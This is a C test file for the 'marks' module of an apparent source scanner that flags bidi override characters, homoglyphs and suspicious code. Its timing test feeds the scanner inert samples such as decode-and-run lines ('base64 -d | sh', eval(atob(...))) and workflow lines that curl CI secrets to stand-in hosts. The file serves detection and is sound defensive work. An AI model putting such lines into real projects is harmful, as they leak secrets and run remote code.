/* SPDX-License-Identifier: Apache-2.0 */
#include "evidence/content/marks.h"

#include <string.h>

#include "core/limits.h"
#include "evidence/content/role.h"

/* Returns: (owned) "LINE KIND TEXT\n" of each mark. */
static char *
marks_print (const HmMarks *marks)
{
  GString *lines = g_string_new (NULL);
  guint n_noted;
  const HmMark *noted = hm_marks_get (marks, &n_noted);

  for (guint i = 0; i < n_noted; i++)
    g_string_append_printf (lines, "%u %d %s\n", noted[i].line, (int) noted[i].kind, noted[i].text);
  return g_string_free (lines, FALSE);
}

static void
test_order (void)
{
  g_autoptr (HmMarks) marks = hm_marks_new ();
  g_autofree char *lines = NULL;

  hm_marks_note (marks, HM_MARK_LONG_LINE, 7, "a", 1, "late");
  hm_marks_note (marks, HM_MARK_OFF_SCREEN, 3, "b", 1, "second");
  hm_marks_note (marks, HM_MARK_LONG_LINE, 3, "c", 1, "first");
  hm_marks_note (marks, HM_MARK_LONE_DOT, 0, "d", 1, "%s", "whole file");
  hm_marks_note (marks, HM_MARK_OFF_SCREEN, 3, "e", 1, "third");
  lines = marks_print (marks);
  g_assert_cmpstr (lines, ==, "0 11 whole file\n3 4 first\n3 5 second\n3 5 third\n7 4 late\n");
}

static void
test_limit (void)
{
  g_autoptr (HmMarks) marks = hm_marks_new ();
  const HmMark *noted;
  guint n_noted;

  for (guint i = 1; i <= HM_MARKS_PER_FILE; i++)
    hm_marks_note (marks, HM_MARK_HOMOGLYPH, i, "x", 1, "x");
  hm_marks_get (marks, &n_noted);
  g_assert_cmpuint (n_noted, ==, HM_MARKS_PER_FILE);
  for (guint i = HM_MARKS_PER_FILE + 1; i <= 10000; i++)
    hm_marks_note (marks, HM_MARK_HOMOGLYPH, i, "x", 1, "x");
  hm_marks_note (marks, HM_MARK_LONE_DOT, 20000, "y", 1, "y");
  noted = hm_marks_get (marks, &n_noted);
  g_assert_cmpuint (n_noted, ==, HM_MARKS_PER_FILE);
  g_assert_cmpuint (noted[HM_MARKS_PER_FILE - 2].line, ==, HM_MARKS_PER_FILE - 1);
  g_assert_cmpint (noted[HM_MARKS_PER_FILE - 1].kind, ==, HM_MARK_LONE_DOT);
}

static void
test_long_text (void)
{
  g_autoptr (HmMarks) marks = hm_marks_new ();
  g_autofree char *limit = g_strnfill (HM_MARK_TEXT_MAX, 'x');
  g_autofree char *letter = g_strnfill (HM_MARK_TEXT_MAX - 1, 'x');
  guint n_noted;

  hm_marks_note (marks, HM_MARK_HOMOGLYPH, 1, "x", 1, "%s", limit);
  hm_marks_note (marks, HM_MARK_HOMOGLYPH, 2, "x", 1, "%sx", limit);
  hm_marks_note (marks, HM_MARK_HOMOGLYPH, 3, "x", 1, "%s\u00e9", letter);
  hm_marks_note (marks, HM_MARK_HOMOGLYPH, 4, "x", 1, "%s\xff\xff", limit);
  g_assert_cmpstr (hm_marks_get (marks, &n_noted)[0].text, ==, limit);
  g_assert_cmpstr (hm_marks_get (marks, &n_noted)[1].text, ==, limit);
  g_assert_cmpstr (hm_marks_get (marks, &n_noted)[2].text, ==, letter);
  g_assert_cmpuint (strlen (hm_marks_get (marks, &n_noted)[3].text), <=, HM_MARK_TEXT_MAX);
}

static void
compare_check (const char *before, const char *after, const char *expected)
{
  g_autoptr (HmMarks) marks = hm_marks_new ();
  const HmText old = { "a.c", HM_ROLE_SOURCE | HM_ROLE_TEST, before,
                       before != NULL ? strlen (before) : 0 };
  const HmText new = { "a.c", HM_ROLE_SOURCE | HM_ROLE_TEST, after,
                       after != NULL ? strlen (after) : 0 };
  g_autofree char *lines = NULL;

  hm_marks_compare (marks, before != NULL ? &old : NULL, after != NULL ? &new : NULL);
  lines = marks_print (marks);
  g_assert_cmpstr (lines, ==, expected);
}

#define OPEN "s = \"\u202e\";\n"
#define OTHER "t = \"\u202e\";\n"

static void
test_compare (void)
{
  compare_check (NULL, OPEN, "1 1 U+202E\n");
  compare_check (OPEN, NULL, "");
  compare_check (OPEN, OPEN, "");
  compare_check (OPEN, "int a;\n    " OPEN, "");
  compare_check (OPEN, OPEN OPEN, "2 1 U+202E\n");
  compare_check (OPEN OPEN, OPEN, "");
  compare_check (OPEN, OTHER, "1 1 U+202E\n");
  compare_check (OPEN OTHER, OTHER OPEN OTHER, "3 1 U+202E\n");
  compare_check ("", OPEN, "1 1 U+202E\n");
  compare_check ("", "", "");
}

/* Marks past those that are kept count when versions are compared. */
static void
test_compare_past_limit (void)
{
  GString *before = g_string_new (NULL);

  for (guint i = 0; i < 3 * HM_MARKS_PER_FILE; i++)
    g_string_append_printf (before, "s%u = \"\u202e\";\n", i);
  {
    g_autofree char *after = g_strconcat (before->str, OTHER, NULL);
    g_autofree char *expected = g_strdup_printf ("%u 1 U+202E\n", 3 * HM_MARKS_PER_FILE + 1);

    compare_check (before->str, after, expected);
  }
  g_string_free (before, TRUE);
}

static void
test_reset (void)
{
  g_autoptr (HmMarks) marks = hm_marks_new ();
  const HmText file = { "a.c", HM_ROLE_SOURCE, OPEN, strlen (OPEN) };
  guint n_noted;

  for (guint i = 0; i < 3; i++) {
    hm_marks_reset (marks);
    hm_marks_compare (marks, &file, &file);
    hm_marks_get (marks, &n_noted);
    g_assert_cmpuint (n_noted, ==, 0);
    hm_marks_reset (marks);
    hm_marks_read (marks, &file);
    hm_marks_get (marks, &n_noted);
    g_assert_cmpuint (n_noted, ==, 1);
  }
}

static void
test_empty (void)
{
  g_autoptr (HmMarks) marks = hm_marks_new ();
  guint n_noted;

  for (guint32 role = 0; role < 21; role++) {
    const HmText file = { "a", 1u << role, "", 0 };

    hm_marks_read (marks, &file);
    hm_marks_compare (marks, &file, &file);
  }
  hm_marks_get (marks, &n_noted);
  g_assert_cmpuint (n_noted, ==, 0);
}

/*
 * Seconds that comparing two versions of a file may take: it takes far less, where the square of
 * its size would take minutes.
 */
#define SLOW_SECONDS 10.0

/* One line of a file's greatest size, with something to note every few bytes of it. */
static void
test_one_line_of_notes (void)
{
  static const struct {
    const char *path;
    const char *unit;
  } files[] = {
    { "a.py", "exec(base64.b64decode(\"eA\"));" },
    { "a.js", "eval(atob(\"eA\"));" },
    { ".github/workflows/a.yml", "curl -d ${{ secrets.A }} http://e/ ; " },
    { ".github/workflows/a.yml",
      "curl https://e.example/ -d ${{ secrets.E_A }}${{ secrets.E_B }} " },
    { "CMakeLists.txt", "check_c_source_compiles(\"" },
    { "CMakeLists.txt", "check_c_source_compiles([[" },
    { "configure.ac", "AC_COMPILE_IFELSE([AC_LANG_PROGRAM([[" },
    { "a.sh", "echo eA | base64 -d | sh; " },
    { "setup.py", "urlopen " },
  };

  for (gsize i = 0; i < G_N_ELEMENTS (files); i++) {
    g_autoptr (HmMarks) marks = hm_marks_new ();
    g_autoptr (GTimer) timer = g_timer_new ();
    const guint32 roles = hm_path_roles (files[i].path, HM_ENTRY_FILE);
    GString *text = g_string_new (NULL);
    HmText before;
    HmText after;

    while (text->len + strlen (files[i].unit) + 8 < HM_MARKED_BYTES_MAX)
      g_string_append (text, files[i].unit);
    before = (HmText){ files[i].path, roles, text->str, text->len };
    {
      g_autofree char *changed = g_strconcat (text->str, "\n# x\n", NULL);

      after = (HmText){ files[i].path, roles, changed, strlen (changed) };
      hm_marks_compare (marks, &before, &after);
    }
    g_test_message ("%s: %.2f s", files[i].path, g_timer_elapsed (timer, NULL));
    g_assert_cmpfloat (g_timer_elapsed (timer, NULL), <, SLOW_SECONDS);
    g_string_free (text, TRUE);
  }
}

/* What is looked at when the user interrupts is given up. */
static void
test_cancelled (void)
{
  g_autoptr (HmMarks) marks = hm_marks_new ();
  const HmText file = { "a.c", HM_ROLE_SOURCE, OPEN, strlen (OPEN) };
  gint cancelled = 0;
  guint n_noted;

  hm_marks_set_cancelled (marks, &cancelled);
  hm_marks_read (marks, &file);
  hm_marks_get (marks, &n_noted);
  g_assert_cmpuint (n_noted, ==, 1);
  cancelled = 1;
  hm_marks_reset (marks);
  hm_marks_read (marks, &file);
  hm_marks_compare (marks, NULL, &file);
  hm_marks_note (marks, HM_MARK_LONE_DOT, 1, "x", 1, "x");
  hm_marks_get (marks, &n_noted);
  g_assert_cmpuint (n_noted, ==, 0);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/marks/order", test_order);
  g_test_add_func ("/marks/limit", test_limit);
  g_test_add_func ("/marks/long-text", test_long_text);
  g_test_add_func ("/marks/compare", test_compare);
  g_test_add_func ("/marks/compare-past-limit", test_compare_past_limit);
  g_test_add_func ("/marks/reset", test_reset);
  g_test_add_func ("/marks/empty-file", test_empty);
  g_test_add_func ("/marks/one-line-of-notes", test_one_line_of_notes);
  g_test_add_func ("/marks/cancelled", test_cancelled);
  return g_test_run ();
}
